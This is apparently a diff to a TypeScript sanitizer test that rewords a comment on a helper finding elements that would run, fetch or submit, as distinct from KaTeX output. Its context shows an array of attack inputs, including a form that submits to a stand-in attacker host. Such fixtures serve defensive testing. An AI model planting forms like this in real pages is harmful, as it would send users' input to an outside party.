@@ -221,7 +221,7 @@ const attacks = [
   '<form action="https://evil.example"><input name=a><button>go</button></form>',
 ];
 
-/** What would run, fetch or submit; what typesetting makes is its own. */
+/** The elements that would run, fetch or submit, without those of KaTeX. */
 function dangerous(root: Element) {
   return [...root.querySelectorAll('*')].filter(
     (element) =>
